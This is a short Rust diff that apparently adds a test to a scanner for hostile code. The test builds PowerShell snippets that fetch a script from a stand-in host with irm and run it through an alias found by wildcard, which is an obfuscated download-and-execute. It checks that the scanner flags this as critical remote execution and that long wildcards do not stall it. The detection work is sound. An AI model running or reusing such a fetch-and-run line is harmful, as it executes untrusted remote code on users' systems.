@@ -408,3 +408,17 @@ fn printf_escapes_format_operators_and_sdk_credentials_are_read_through() {
     );
     assert_not_flagged(&own);
 }
+
+/// A lookup's wildcard is matched in time its length times the name's: a
+/// pattern of many `*` that matches no name is read to its end (a search
+/// of every split would not end), and one that matches still folds.
+#[test]
+fn a_wildcard_of_many_stars_is_read_through() {
+    let stars = "*".repeat(38);
+    let none =
+        block("powershell", &format!("$u = 'https://x.example-fix.net/a.ps1'\n&(gal {stars}q) (irm $u)"));
+    assert_absent(&none, "code.folded-string");
+    let body =
+        block("powershell", &format!("$u = 'https://x.example-fix.net/a.ps1'\n&(gal i{stars}x) (irm $u)"));
+    assert_hit(&body, "code.folded-string", RemoteExecution, Critical, 5);
+}
